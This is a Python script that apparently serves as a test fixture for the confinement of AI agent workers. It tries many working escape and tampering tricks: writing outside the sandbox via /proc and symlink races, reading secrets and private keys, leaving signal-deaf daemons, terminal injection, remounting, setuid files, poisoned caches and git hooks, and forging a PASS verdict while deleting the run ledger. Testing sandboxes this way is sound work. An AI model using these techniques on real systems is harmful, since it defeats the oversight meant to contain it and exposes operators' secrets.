"""A program that tries to get out: `attacker.py FILE`, a JSON file of deeds and what they aim at.

It tells on stdout what each deed came to, and goes on whatever that is. Nobody believes it: who
started it looks at the victims. It is stdlib only, and runs as worker, check and integrator.
"""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

Aims = dict[str, Any]
_SWAPS = 300
_CHILDREN = 60
_TYPE_INTO_TERMINAL = 0x5412
_SEIZE, _KILL_WITH_TRACER = 0x4206, 1 << 20
_ADD_KEY, _RING_SETUP = {"x86_64": (248, 425)}.get(os.uname().machine, (217, 425))
_USER_KEYRING = -4
_NEW_USER, _NEW_MOUNTS = 0x10000000, 0x00020000
_REMOUNT, _BIND = 32, 4096


def write(aims: Aims) -> None:
    """Append, cut, write over, create: elsewhere and in the repository."""
    _each(*_writes(aims["outside"]), *_writes(aims["near"]))


def remove(aims: Aims) -> None:
    """Delete, bring in, bring out."""
    _each(*_removals(aims["outside"]), *_removals(aims["near"]))


def _writes(folder: str) -> tuple[Callable[[], object], ...]:
    return (
        lambda: _write(f"{folder}/appended", "a"),
        lambda: os.truncate(f"{folder}/cut", 0),
        lambda: _write(f"{folder}/written", "w"),
        lambda: _write(f"{folder}/created", "w"),
    )


def _removals(folder: str) -> tuple[Callable[[], object], ...]:
    return (
        lambda: os.unlink(f"{folder}/deleted"),
        lambda: os.rename(f"{folder}/renamed", "brought-in"),
        lambda: _write("brought", "w"),
        lambda: os.rename("brought", f"{folder}/brought"),
        lambda: os.rmdir(f"{folder}/folder"),
    )


def mode(aims: Aims) -> None:
    os.chmod(f"{aims['outside']}/mode", 0o666)


def times(aims: Aims) -> None:
    os.utime(f"{aims['outside']}/times", (1, 1))


def attribute(aims: Aims) -> None:
    os.setxattr(f"{aims['outside']}/attribute", "user.attack", b"1")


def owner(aims: Aims) -> None:
    os.chown(f"{aims['outside']}/owner", -1, 12345)


def through_link(aims: Aims) -> None:
    os.symlink(f"{aims['outside']}/linked", "link-out")
    _write("link-out", "a")


def hard_link(aims: Aims) -> None:
    os.link(f"{aims['near']}/hard", "hard-in")
    _write("hard-in", "a")


def through_proc(aims: Aims) -> None:
    """Take the ways around that /proc offers to what is outside."""
    here, target = os.getcwd(), f"{aims['outside']}/proc"
    up = "/.." * here.count("/")
    _each(
        lambda: _write(f"/proc/self/root{target}", "a"),
        lambda: _write(f"/proc/self/cwd{up}{target}", "a"),
        lambda: _write(f"/proc/{os.getppid()}/root{target}", "a"),
        lambda: _write(f"/proc/{aims['signalled']}/root{target}", "a"),
        lambda: _write_by_number(target),
    )


def read_environment(aims: Aims) -> str:
    """Look for the secret in the environment of every process that can be seen."""
    for process in Path("/proc").iterdir():
        with suppress(OSError):
            for line in (process / "environ").read_bytes().split(b"\0"):
                if line.startswith(b"ATTACK_SECRET="):
                    return line.decode()[::-1]
    raise PermissionError("no environment holds it")


def read_own_environment(aims: Aims) -> str:
    """Return what the operator's environment gave along."""
    names = [name for name in os.environ if name.startswith("ATTACK_")]
    if not names:
        raise PermissionError("nothing was given along")
    return " ".join(names)


def read_key(aims: Aims) -> str:
    """Read a private key of the operator."""
    return Path(aims["key_file"]).read_text("utf-8")[::-1]


def read_work_tree(aims: Aims) -> str:
    """Read what the operator never committed."""
    return Path(f"{aims['near']}/written").read_text("utf-8")[::-1]


def open_files(aims: Aims) -> str:
    """Return what was handed over open, beside the three that everyone has."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            if int(name) > 2 and os.fstat(int(name)):
                found.append(os.readlink(f"/proc/self/fd/{name}"))
    if not found:
        raise PermissionError("nothing was handed over")
    return " ".join(found)


def sibling(aims: Aims) -> None:
    """Write into the checkout of another worker, into its sealed bundle, and into the work root."""
    other = Path(aims["checkout"]).parents[2] / aims["other"] / "1" / "checkout"
    _each(
        lambda: _write(f"{other}/src/b.txt", "a"),
        lambda: _write(f"{other}/planted.txt", "w"),
        lambda: _write(f"{aims['run']}/{aims['sealed']}/{aims['sealed_file']}", "a"),
        lambda: _write(f"{aims['runs']}/{aims['role']}-was-here", "w"),
    )


def linger(aims: Aims) -> None:
    """Leave a daemon behind, deaf to all that can be blocked, which writes on and on."""
    ready, told = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        nowhere = os.open(os.devnull, os.O_RDWR)
        for handle in (0, 1, 2):
            os.dup2(nowhere, handle)
        os.write(told, b"x")
        beat = "import sys,time\nwhile True: open(sys.argv[1],'a').write('x'); time.sleep(.02)"
        words = [sys.executable, "-I", "-S", "-c", beat, f"{aims['checkout']}/src/c.txt"]
        os.execve(sys.executable, [*words, aims["mark"]], {})
    os.read(ready, 1)


def multiply(aims: Aims) -> None:
    """Start many that would stay."""
    for _ in range(_CHILDREN):
        if os.fork() == 0:
            os.setsid()
            os.execvp("sleep", [aims["mark"], "600"])


def signals(aims: Aims) -> None:
    os.kill(aims["signalled"], signal.SIGKILL)


def trace(aims: Aims) -> None:
    """Become the tracer of a process, which is to die with us."""
    number = 101 if os.uname().machine == "x86_64" else 117
    _call(number, _SEIZE, aims["traced"], 0, _KILL_WITH_TRACER)


def type_into_terminal(aims: Aims) -> None:
    import fcntl

    handle = os.open(aims["terminal"], os.O_RDWR | os.O_NOCTTY)
    for letter in b"typed":
        fcntl.ioctl(handle, _TYPE_INTO_TERMINAL, bytes([letter]))


def write_on_terminal(aims: Aims) -> None:
    os.write(os.open(aims["terminal"], os.O_WRONLY | os.O_NOCTTY), b"written")


def socket_in_tmp(aims: Aims) -> None:
    _knock(aims, "tmp")


def socket_in_run(aims: Aims) -> None:
    _knock(aims, "run")


def socket_elsewhere(aims: Aims) -> None:
    _knock(aims, "elsewhere")


def abstract_socket(aims: Aims) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + aims["abstract"])
        one.sendall(aims["role"].encode())


def tcp(aims: Aims) -> None:
    with socket.socket() as one:
        one.settimeout(5)
        one.connect(("127.0.0.1", aims["tcp"]))
        one.sendall(aims["role"].encode())


def udp(aims: Aims) -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as one:
        one.sendto(aims["role"].encode(), ("127.0.0.1", aims["udp"]))


def multipath(aims: Aims) -> None:
    """Connect by multipath TCP, which rules for TCP do not meet."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(5)
        one.connect(("127.0.0.1", aims["multipath"]))
        one.sendall(aims["role"].encode())


def undo_mounts(aims: Aims) -> None:
    """Make all writable again, here and in namespaces of one's own, then write outside."""
    library = ctypes.CDLL(None, use_errno=True)
    target = f"{aims['outside']}/remounted"

    def remounted() -> None:
        for place in ("/", os.path.dirname(target), os.path.dirname(aims["outside"])):
            library.mount(None, place.encode(), None, _REMOUNT | _BIND, None)
            library.mount(place.encode(), place.encode(), None, _BIND, None)
            library.mount(None, place.encode(), None, _REMOUNT | _BIND, None)
        with suppress(OSError):
            _write(target, "a")

    # Where nothing is confined these could be the mounts of the host.
    ways = (0, _NEW_MOUNTS, _NEW_USER | _NEW_MOUNTS) if aims["tier"] != "unconfined" else ()
    for flags in ways:
        if (child := os.fork()) == 0:
            if not flags or library.unshare(flags) == 0:
                remounted()
            os._exit(0)
        os.waitpid(child, 0)
    _write(target, "a")


def ring(aims: Aims) -> str:
    """Set up a ring that makes calls where no filter sees them."""
    handle = _call(_RING_SETUP, 1, ctypes.create_string_buffer(120))
    return os.readlink(f"/proc/self/fd/{handle}")


def key(aims: Aims) -> None:
    """Leave a key in the keyring of the user."""
    name = ctypes.create_string_buffer(aims["key"].encode())
    kind = ctypes.create_string_buffer(b"user")
    _call(_ADD_KEY, kind, name, ctypes.create_string_buffer(b"x"), 1, _USER_KEYRING)


def setuid(aims: Aims) -> None:
    """Leave a program that would run as whoever owns it."""
    program = f"{aims['checkout']}/src/c.sh"
    _write(program, "w")
    os.chmod(program, 0o4755)


def poison_cache(aims: Aims) -> None:
    """Leave what a later program of the operator would load."""
    _each(
        lambda: _write(f"{aims['home']}/.cache/pip/poison", "w"),
        lambda: _write(f"{aims['outside']}/cache/module.pyc", "a"),
    )


def race(aims: Aims) -> None:
    """Exchange a file of our own for a link to the victim while both are opened."""
    Path("own").write_text("", "utf-8")
    for _ in range(_SWAPS):
        with suppress(OSError):
            os.symlink(f"{aims['outside']}/raced", "swap")
            os.replace("swap", "own-or-not")
            _write("own-or-not", "a")
        with suppress(OSError):
            Path("swap").write_text("", "utf-8")
            os.replace("swap", "own-or-not")
            _write("own-or-not", "a")


def link_as_text(aims: Aims) -> None:
    """Leave a link to a secret where a text of ours is taken in."""
    os.symlink(aims["key_file"], f"{aims['outbox']}/SUMMARY.md")


def odd_outbox(aims: Aims) -> None:
    """Leave what would make a reader wait, or is no file at all."""
    outbox = aims["outbox"]
    _each(
        lambda: os.mkfifo(f"{outbox}/SUMMARY.md"),
        lambda: os.mkdir(f"{outbox}/SUGGESTIONS.md"),
        lambda: _bind(f"{outbox}/HANDOFF_NOTE.json"),
    )


def own_git(aims: Aims) -> None:
    """Name programs wherever git would look for one, in the checkout's own repository."""
    _configure(Path(".git"), aims["ran"])
    Path(".gitattributes").write_text("* filter=x diff=x merge=x\n", "utf-8")
    _write("src/d.txt", "a")


def borrowed(aims: Aims) -> None:
    """Let the checkout's repository borrow and replace objects."""
    objects = Path(".git/objects/info")
    objects.mkdir(parents=True, exist_ok=True)
    (objects / "alternates").write_text(f"{aims['outside']}/objects\n", "utf-8")
    Path(".git/info/grafts").write_text("0" * 40 + "\n", "utf-8")
    replaced = Path(".git/refs/replace")
    replaced.mkdir(parents=True, exist_ok=True)
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], capture_output=True, text=True, check=True
    ).stdout.strip()
    (replaced / head).write_text(head + "\n", "utf-8")


def planted(aims: Aims) -> None:
    """Leave modules and programs that are found before the real ones from here."""
    mark = f"open({aims['ran']!r}, 'a').write(__name__)\n"
    for name in ("json", "subprocess", "sitecustomize", "usercustomize", "git"):
        Path(f"{name}.py").write_text(mark, "utf-8")
    for name in ("git", "sh", "python3"):
        Path(name).write_text(f"#!/bin/sh\necho {name} >> {aims['ran']}\n", "utf-8")
        Path(name).chmod(0o755)


def nested(aims: Aims) -> None:
    """Leave a repository in the checkout, whose configuration names programs."""
    made = Path("sub")
    quiet = {"capture_output": True, "check": True}
    person = ("-c", "user.name=a", "-c", "user.email=a@localhost")
    subprocess.run(["git", "init", "-q", "sub"], **quiet)  # type: ignore[call-overload]
    (made / "file").write_text("one\n", "utf-8")
    subprocess.run(["git", "add", "."], cwd=made, **quiet)  # type: ignore[call-overload]
    words = ["git", *person, "commit", "-q", "-m", "x"]
    subprocess.run(words, cwd=made, **quiet)  # type: ignore[call-overload]
    (made / ".gitattributes").write_text("* filter=x diff=x\n", "utf-8")
    (made / "file").write_text("two\n", "utf-8")
    _configure(made / ".git", aims["ran"])


def ruin(aims: Aims) -> None:
    """Take the ledger away, and leave a verdict of our own."""
    passed = json.dumps({"status": "PASS", "exit_code": 0})
    _each(
        lambda: _write(f"{aims['run']}/PLAN.json", "w"),
        lambda: Path(f"{aims['run']}/Z_integrator/STATUS.json").write_text(passed, "utf-8"),
        lambda: _write(f"{aims['runs']}/factory_ledger.jsonl", "w"),
        lambda: os.unlink(f"{aims['runs']}/factory_ledger.jsonl"),
    )


def _configure(folder: Path, ran: str) -> None:
    program = f"sh -c 'echo ran >> {ran}; cat'"
    lines = [
        "[core]", f"fsmonitor = {json.dumps(program)}", f"pager = {json.dumps(program)}",
        f"editor = {json.dumps(program)}", f"sshCommand = {json.dumps(program)}",
        f"askPass = {json.dumps(program)}", f"hooksPath = {folder.resolve()}/planted",
        f"attributesFile = {folder.resolve()}/attributes", "untrackedCache = true",
        '[filter "x"]', f"clean = {json.dumps(program)}", f"smudge = {json.dumps(program)}",
        "required = true", "[diff]", f"external = {json.dumps(program)}",
        '[diff "x"]', f"textconv = {json.dumps(program)}", f"command = {json.dumps(program)}",
        '[merge "x"]', f"driver = {json.dumps(program)}", "[alias]",
        f"status = {json.dumps('!' + program)}", f"diff = {json.dumps('!' + program)}",
        "[include]", f"path = {folder.resolve()}/more", "[gpg]", f"program = {json.dumps(program)}",
        "[commit]", "gpgSign = true", "[credential]", f"helper = {json.dumps('!' + program)}",
        "[uploadpack]", f"packObjectsHook = {json.dumps(program)}",
    ]  # fmt: skip
    with (folder / "config").open("a", encoding="utf-8") as config:
        config.write("\n".join(lines) + "\n")
    (folder / "more").write_text(f"[core]\nfsmonitor = {json.dumps(program)}\n", "utf-8")
    (folder / "attributes").write_text("* filter=x diff=x\n", "utf-8")
    (folder / "info").mkdir(exist_ok=True)
    (folder / "info" / "attributes").write_text("* filter=x diff=x merge=x\n", "utf-8")
    for hooks in (folder / "hooks", folder / "planted"):
        hooks.mkdir(exist_ok=True)
        for name in ("pre-commit", "post-index-change", "post-checkout", "reference-transaction"):
            (hooks / name).write_text(f"#!/bin/sh\necho {name} >> {ran}\n", "utf-8")
            (hooks / name).chmod(0o755)


def _each(*deeds: Callable[[], object]) -> None:
    """Try each; raise the first error where none of them came off."""
    errors = []
    for deed in deeds:
        try:
            deed()
        except OSError as error:
            errors.append(error)
    if len(errors) == len(deeds):
        raise errors[0]


def _write(path: str, how: str) -> None:
    with Path(path).open(how, encoding="utf-8") as file:
        file.write("attacked\n")


def _write_by_number(path: str) -> None:
    """Open for reading what may be read, and again by its number for writing."""
    with Path(path).open("rb") as file:
        _write(f"/proc/self/fd/{file.fileno()}", "a")


def _knock(aims: Aims, where: str) -> None:
    folder = aims["sockets"][where]
    here = os.getcwd()
    # A name of a socket is short; a folder may be deep.
    os.chdir(folder)
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.connect("s")
            one.sendall(aims["role"].encode())
    finally:
        os.chdir(here)


def _bind(path: str) -> None:
    os.chdir(os.path.dirname(path))
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(os.path.basename(path))


def _call(number: int, *words: object) -> int:
    library = ctypes.CDLL(None, use_errno=True)
    told = [word if not isinstance(word, int) else ctypes.c_long(word) for word in words]
    said = int(library.syscall(ctypes.c_long(number), *told))
    if said < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return said


def main(file: str) -> None:
    """Do every deed that the file names, then the work that was asked for."""
    aims = json.loads(Path(file).read_text("utf-8"))
    aims["checkout"], aims["outbox"] = os.getcwd(), os.environ.get("FACTORY_OUTBOX", "")
    if aims["stand"]:
        # Ignored there: what lies about is not in its way.
        os.makedirs(aims["stand"], exist_ok=True)
        os.chdir(aims["stand"])
    said = {}
    for name in aims["deeds"]:
        try:
            said[name] = {"loot": globals()[name](aims) or "done"}
        except OSError as error:
            said[name] = {"error": str(error)}
    for path in aims["work"]:
        _write(f"{aims['checkout']}/{path}", "w")
    sys.stdout.write("SAID " + json.dumps(said) + "\n")
    sys.stdout.flush()


main(sys.argv[1])
